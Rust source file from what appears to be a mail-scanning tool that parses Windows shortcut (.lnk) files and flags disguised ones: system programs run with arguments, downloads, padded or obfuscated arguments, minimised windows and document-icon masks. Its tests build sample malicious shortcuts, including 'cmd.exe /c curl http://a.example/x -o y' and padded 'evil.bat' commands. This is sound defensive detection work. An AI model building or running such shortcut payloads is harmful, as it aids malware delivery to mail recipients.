//! Shell links ([MS-SHLLINK]): what they run, with what, and under which icon.
//!
//! A shortcut in a mail is a program in disguise: its target is one that Windows brings along, the work is in its
//! arguments (which Explorer cuts at 260 characters), the icon is a document's. Read field by field; what the sizes
//! promise and the file does not hold is left out.

use bytes::Bytes;

use crate::{
    Derived, Id, IndicatorKind, Place, Relation, Severity, bus, facts,
    gaps::Gaps,
    scan::{Child, Scan, TextKind},
};

/// Blanks in a row that push what follows out of sight.
const PADDING: usize = 64;
/// Characters of the target field that Explorer shows.
const SHOWN_CHARS: usize = 260;
/// Bytes behind the end that are more than rounding.
const OVERLAY_MIN: usize = 256;
/// Items of a path at most.
const ITEMS_MAX: usize = 64;
/// Extra blocks of one link at most.
const BLOCKS_MAX: usize = 64;

/// Programs that show documents: their icon on another target is a mask.
const DOCUMENT_ICONS: [&str; 18] = [
    "acrobat",
    "acrord32",
    "winword",
    "excel",
    "powerpnt",
    "outlook",
    "onenote",
    "msedge",
    "chrome",
    "firefox",
    "iexplore",
    "shell32.dll",
    "imageres.dll",
    "wordicon",
    "xlicons",
    "pptico",
    ".pdf",
    ".doc",
];

/// Reads a link.
pub(crate) fn analyse(bytes: &Bytes, scan: &mut Scan<'_>) {
    let link = Link::read(bytes, &mut scan.budget.gaps);
    scan.active = true;
    judge(&link, scan);
    if bytes.len().saturating_sub(link.end) >= OVERLAY_MIN {
        let rest = bytes.slice(link.end.min(bytes.len())..);
        scan.find(Id::LnkOverlay, Place::offset(link.end), format!("{} bytes behind the link", rest.len()));
        scan.child(Child {
            name: "overlay".into(),
            bytes: rest,
            relation: Relation::Embedded,
            ..Child::default()
        });
    }
    scan.facts.shortcut = Some(link.facts);
}

/// A link as read.
#[derive(Default)]
struct Link {
    facts: facts::Shortcut,
    /// From the environment block, when there is one.
    environment: Option<String>,
    /// Where the link's own format ends.
    end: usize,
}

const HAS_ID_LIST: u32 = 1;
const HAS_LINK_INFO: u32 = 1 << 1;
const HAS_NAME: u32 = 1 << 2;
const HAS_RELATIVE_PATH: u32 = 1 << 3;
const HAS_WORKING_DIR: u32 = 1 << 4;
const HAS_ARGUMENTS: u32 = 1 << 5;
const HAS_ICON: u32 = 1 << 6;
const IS_UNICODE: u32 = 1 << 7;

impl Link {
    fn read(bytes: &[u8], gaps: &mut Gaps) -> Link {
        let mut link = Link::default();
        let flags = u32_at(bytes, 0x14).unwrap_or(0);
        link.facts.show_command = u32_at(bytes, 0x3C).unwrap_or(1);
        let mut at = 0x4C;
        if flags & HAS_ID_LIST != 0 {
            let size = u16_at(bytes, at).map_or(0, usize::from);
            let list = bytes.get(at + 2..(at + 2).saturating_add(size)).unwrap_or_default();
            link.facts.target = id_list(list, gaps);
            at += 2 + size;
        }
        if flags & HAS_LINK_INFO != 0 {
            let size = u32_at(bytes, at).map_or(0, |n| n as usize);
            let end = at.saturating_add(size).min(bytes.len());
            link.info(bytes.get(at..end).unwrap_or_default());
            at = end;
        }
        let fields = [HAS_NAME, HAS_RELATIVE_PATH, HAS_WORKING_DIR, HAS_ARGUMENTS, HAS_ICON];
        for field in fields {
            if flags & field == 0 {
                continue;
            }
            let Some((text, next)) = string(bytes, at, flags & IS_UNICODE != 0) else { break };
            at = next;
            let place = match field {
                HAS_NAME => &mut link.facts.description,
                HAS_RELATIVE_PATH => &mut link.facts.relative_path,
                HAS_WORKING_DIR => &mut link.facts.working_dir,
                HAS_ARGUMENTS => &mut link.facts.arguments,
                _ => &mut link.facts.icon,
            };
            *place = Some(text);
        }
        link.end = link.extra(bytes, at, gaps);
        link
    }

    /// LinkInfo: drive and path.
    fn info(&mut self, info: &[u8]) {
        let offset = |at: usize| u32_at(info, at).map_or(0, |n| n as usize);
        let flags = offset(8);
        let volume = info.get(offset(0x0C)..).filter(|_| flags & 1 != 0);
        if let Some(volume) = volume {
            let types = ["unknown", "none", "removable", "fixed", "remote", "cdrom", "ramdisk"];
            let kind = u32_at(volume, 4).and_then(|n| types.get(n as usize).copied());
            self.facts.drive_type = kind.map(str::to_owned);
            self.facts.drive_serial_number = u32_at(volume, 8).map(|n| format!("{n:08x}"));
            let label = u32_at(volume, 12).and_then(|at| volume.get(at as usize..)).map(ansi);
            self.facts.volume_label = label.filter(|l| !l.is_empty());
        }
        let base = info.get(offset(0x10)..).filter(|_| flags & 1 != 0 && offset(0x10) > 0).map(ansi);
        let share = info
            .get(offset(0x14)..)
            .filter(|_| flags & 2 != 0 && offset(0x14) > 0)
            .and_then(|net| net.get(u32_at(net, 8)? as usize..))
            .map(ansi);
        let suffix = info.get(offset(0x18)..).filter(|_| offset(0x18) > 0).map(ansi).unwrap_or_default();
        let path = match (base, share) {
            (Some(base), _) if !base.is_empty() => Some(format!("{base}{suffix}")),
            (_, Some(share)) if !share.is_empty() => Some(format!("{share}\\{suffix}")),
            _ => None,
        };
        self.facts.target = path.or_else(|| self.facts.target.take());
    }

    /// Extra blocks; where they end.
    fn extra(&mut self, bytes: &[u8], mut at: usize, gaps: &mut Gaps) -> usize {
        let mut count = 0;
        loop {
            let size = match u32_at(bytes, at) {
                Some(size) if size >= 8 => size as usize,
                Some(_) => return at + 4,
                None => return at,
            };
            if !gaps.room(count, BLOCKS_MAX, "blocks of a link") {
                return at;
            }
            count += 1;
            let block = bytes.get(at..at.saturating_add(size).min(bytes.len())).unwrap_or_default();
            match u32_at(block, 4) {
                Some(0xA000_0001) => {
                    let wide = block.get(8 + 260..).map(utf16).unwrap_or_default();
                    let text =
                        if wide.is_empty() { block.get(8..268).map(ansi).unwrap_or_default() } else { wide };
                    self.environment = Some(text).filter(|t| !t.is_empty());
                }
                Some(0xA000_0003) => {
                    self.facts.machine_id = block.get(16..32).map(ansi).filter(|m| !m.is_empty());
                    self.facts.mac = block.get(58..64).map(|mac| {
                        let parts: Vec<String> = mac.iter().map(|b| format!("{b:02x}")).collect();
                        parts.join(":")
                    });
                }
                _ => {}
            }
            at = at.saturating_add(size);
            if at >= bytes.len() {
                return bytes.len();
            }
        }
    }
}

fn judge(link: &Link, scan: &mut Scan<'_>) {
    let facts = &link.facts;
    let target = [&facts.target, &link.environment, &facts.relative_path].into_iter().flatten().next();
    let target = target.map(String::as_str).unwrap_or_default();
    let arguments = facts.arguments.as_deref().unwrap_or_default();
    let line =
        if arguments.is_empty() { target.to_owned() } else { format!("{target} {}", arguments.trim()) };
    let plain = bus::undo(&line).unwrap_or_else(|| line.clone());
    let lolbin = bus::programs(&resolved(&plain));
    let windows = |name: &String| name == "explorer" || name == "control";
    if !arguments.trim().is_empty() && lolbin.iter().any(|n| !windows(n) || arguments.contains(['\\', '/'])) {
        scan.find(Id::LnkLolbin, "target", &line);
        scan.indicate(IndicatorKind::Cmdline, &line, "target");
    } else if !lolbin.is_empty() && !lolbin.iter().all(windows) {
        scan.find_as(Id::LnkLolbin, Severity::Low, Derived::Static, "target", &line);
    }
    if !lolbin.is_empty() && bus::has_address(&plain) {
        scan.find(Id::LnkDownload, "target", &plain);
    }
    if longest_blank(arguments) >= PADDING || arguments.chars().count() > SHOWN_CHARS && !lolbin.is_empty() {
        scan.find(Id::LnkPaddedArgs, "arguments", arguments.trim());
    }
    if let Some(environment) = &link.environment
        && environment.contains('%')
        && (!lolbin.is_empty() || facts.target.is_none())
    {
        scan.find(Id::LnkEnvTarget, "environment block", environment);
    }
    if plain != line || arguments.matches(['^', '`']).count() >= 4 {
        scan.find(Id::LnkObfCmd, "arguments", &plain);
    }
    if facts.show_command == 7 {
        scan.find(Id::LnkMinimized, "", "window minimised");
    }
    let icon = facts.icon.as_deref().unwrap_or_default().to_lowercase();
    if !lolbin.is_empty() && DOCUMENT_ICONS.iter().any(|part| icon.contains(part)) {
        scan.find(Id::LnkIconMask, "icon", &icon);
    }
    scan.text(TextKind::Decoded, plain, "target");
    scan.text(TextKind::Meta, facts.description.clone().unwrap_or_default(), "description");
}

/// Well-known variables stand for programs.
fn resolved(line: &str) -> String {
    let lower = line.to_ascii_lowercase();
    lower
        .replace("%comspec%", "cmd.exe")
        .replace("%systemroot%", "c:\\windows")
        .replace("%windir%", "c:\\windows")
}

fn longest_blank(text: &str) -> usize {
    let mut longest = 0;
    let mut run = 0;
    for c in text.chars() {
        run = if c.is_whitespace() || c == '\u{a0}' { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    longest
}

/// The file names of an item id list, joined: long names (in the 0xBEEF0004 block) are preferred.
fn id_list(list: &[u8], gaps: &mut Gaps) -> Option<String> {
    let mut parts: Vec<String> = Vec::new();
    let mut at = 0;
    while let Some(size) = u16_at(list, at).map(usize::from).filter(|size| *size > 2) {
        if !gaps.room(parts.len(), ITEMS_MAX, "items of a link's path") {
            break;
        }
        let item = list.get(at + 2..(at + size).min(list.len())).unwrap_or_default();
        match item.first() {
            Some(0x23..=0x2F) => parts.push(ansi(item.get(1..).unwrap_or_default())),
            Some(0x30..=0x3F) => parts.push(entry_name(item)),
            _ => {}
        }
        at += size;
    }
    let path: Vec<&str> = parts.iter().map(|p| p.trim_end_matches('\\')).filter(|p| !p.is_empty()).collect();
    (!path.is_empty()).then(|| path.join("\\"))
}

fn entry_name(item: &[u8]) -> String {
    let mark = memchr::memmem::find(item, &[0x04, 0x00, 0xEF, 0xBE]);
    let long = mark.and_then(|at| item.get(at + 4..)).map(|rest| {
        // The name follows times and a reference of varying length: the first run of printable UTF-16.
        let starts = (8..48.min(rest.len())).step_by(2);
        starts
            .map(|s| utf16(rest.get(s..).unwrap_or_default()))
            .find(|name| is_name(name))
            .unwrap_or_default()
    });
    match long {
        Some(name) if !name.is_empty() => name,
        _ => ansi(item.get(12..).unwrap_or_default()),
    }
}

fn is_name(text: &str) -> bool {
    text.chars().count() >= 3
        && text.chars().all(|c| !c.is_control() && c != '\u{fffd}' && (c as u32) < 0xE000)
        && text.contains(|c: char| c.is_alphanumeric())
}

/// A counted string and where it ends.
fn string(bytes: &[u8], at: usize, wide: bool) -> Option<(String, usize)> {
    let count = usize::from(u16_at(bytes, at)?);
    let width = if wide { 2 } else { 1 };
    let end = (at + 2).saturating_add(count * width).min(bytes.len());
    let body = bytes.get(at + 2..end)?;
    let text = if wide {
        utf16_all(body)
    } else {
        sekisho_mail::charset::decode(body, Some("windows-1252")).text.into_owned()
    };
    Some((text, end))
}

fn ansi(bytes: &[u8]) -> String {
    let end = bytes.iter().position(|b| *b == 0).unwrap_or(bytes.len());
    let body = bytes.get(..end).unwrap_or_default();
    sekisho_mail::charset::decode(body, Some("windows-1252")).text.into_owned()
}

/// UTF-16 up to a zero.
fn utf16(bytes: &[u8]) -> String {
    let units = bytes.as_chunks::<2>().0.iter().map(|u| u16::from_le_bytes(*u)).take_while(|u| *u != 0);
    char::decode_utf16(units).map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER)).collect()
}

fn utf16_all(bytes: &[u8]) -> String {
    let units = bytes.as_chunks::<2>().0.iter().map(|u| u16::from_le_bytes(*u));
    char::decode_utf16(units).map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER)).collect()
}

fn u16_at(bytes: &[u8], at: usize) -> Option<u16> {
    bytes.get(at..)?.first_chunk::<2>().map(|b| u16::from_le_bytes(*b))
}

fn u32_at(bytes: &[u8], at: usize) -> Option<u32> {
    bytes.get(at..)?.first_chunk::<4>().map(|b| u32::from_le_bytes(*b))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Hints, Input, unpack};

    /// A link with a local target and strings in the order of the format.
    fn link(target: &str, arguments: &str, icon: &str, show: u8) -> Vec<u8> {
        let mut flags = HAS_LINK_INFO | IS_UNICODE;
        let mut strings = Vec::new();
        for (text, flag) in [(arguments, HAS_ARGUMENTS), (icon, HAS_ICON)] {
            if !text.is_empty() {
                flags |= flag;
                let units: Vec<u16> = text.encode_utf16().collect();
                strings.extend((units.len() as u16).to_le_bytes());
                strings.extend(units.iter().flat_map(|u| u.to_le_bytes()));
            }
        }
        let mut out = vec![0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46];
        out.extend(flags.to_le_bytes());
        out.resize(0x4C, 0);
        out[0x3C] = show;
        let size = 28 + target.len() as u32 + 2;
        for n in [size, 28, 1, 0, 28, 0, size - 1] {
            out.extend(n.to_le_bytes());
        }
        out.extend(target.bytes().chain([0, 0]));
        out.extend(strings);
        out.extend([0; 4]);
        out
    }

    fn check(bytes: Vec<u8>) -> String {
        let input = Input { name: "a.lnk".into(), declared: None, bytes: bytes.into() };
        let tree = unpack("", vec![input], &Hints::default());
        let ids = tree.files.iter().flat_map(|f| &f.findings).map(|f| f.id.name());
        ids.filter(|id| id.starts_with("LNK-")).collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn system_programs_with_arguments() {
        let cmd = r"C:\Windows\System32\cmd.exe";
        assert_eq!(check(link(cmd, "/c evil.bat", "", 1)), "LNK-LOLBIN");
        assert_eq!(
            check(link(cmd, "/c evil.bat", r"C:\x\winword.exe", 7)),
            "LNK-LOLBIN LNK-MINIMIZED LNK-ICON-MASK"
        );
        assert_eq!(check(link(r"C:\Program Files\Tool\tool.exe", "/c evil.bat", "", 1)), "");
        assert_eq!(check(link(cmd, "/c curl http://a.example/x -o y", "", 1)), "LNK-LOLBIN LNK-DOWNLOAD");
        let padded = format!("/c{}evil.bat", " ".repeat(80));
        assert_eq!(check(link(cmd, &padded, "", 1)), "LNK-LOLBIN LNK-PADDED-ARGS");
    }

    #[test]
    fn any_bytes_end() {
        let good = link(r"C:\Windows\System32\cmd.exe", "/c x", "icon", 1);
        for cut in 0..good.len() {
            check(good[..cut].to_vec());
        }
        for at in 0x14..good.len() {
            let mut bad = good.clone();
            bad[at] = 0xFF;
            check(bad);
        }
    }
}
